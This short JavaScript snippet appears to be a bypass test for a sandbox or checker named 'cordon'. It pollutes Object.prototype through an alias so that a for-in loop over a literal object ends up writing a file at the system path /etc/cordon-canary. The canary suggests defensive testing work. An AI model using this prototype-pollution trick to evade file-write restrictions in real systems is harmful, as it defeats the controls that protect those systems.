// bypass: const p = Object.prototype; p[OUT] = 1 pollutes the prototype through an alias; for-in over a literal then visits OUT
const fs = require("fs");
const T = "/etc/cordon-canary";
const p = Object.prototype;
p[T] = 1;
for (const k in { "a.txt": 1 }) fs.writeFileSync(k, "x");
console.log(fs.existsSync("/etc/cordon-canary"));
